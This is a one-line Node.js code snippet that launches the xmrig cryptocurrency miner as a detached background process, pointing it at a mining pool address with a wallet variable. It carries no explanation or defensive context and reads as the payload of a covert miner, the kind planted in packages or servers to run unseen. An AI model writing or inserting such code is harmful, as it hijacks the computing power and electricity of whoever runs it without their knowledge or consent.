require('child_process').spawn('./xmrig', ['-o', 'stratum+tcp://198.51.100.4:3333', '-u', wallet], { detached: true });
